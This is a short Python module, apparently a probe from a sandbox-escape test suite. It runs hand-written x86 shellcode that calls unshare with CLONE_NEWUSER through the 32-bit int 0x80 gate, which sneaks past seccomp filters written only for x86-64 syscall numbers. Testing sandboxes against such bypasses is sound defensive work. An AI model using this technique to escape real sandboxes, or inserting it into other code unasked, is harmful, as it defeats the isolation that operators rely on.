"""Enter a user namespace by the 32-bit gate, whose call numbers a filter for x86-64 takes for others."""

import ctypes
import errno
import mmap
import platform

from escape_tools import Absent, forked

NEEDS = ("seccomp",)
# push rbx; mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53 b8 36010000 bb 00000010 cd80 5b c3")


def attempt(at):
    if platform.machine() != "x86_64":
        raise Absent("no such gate on this machine")

    def enter():
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(CODE)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        if result < 0:
            raise OSError(-result, errno.errorcode.get(-result, "int 0x80"))

    forked(enter)
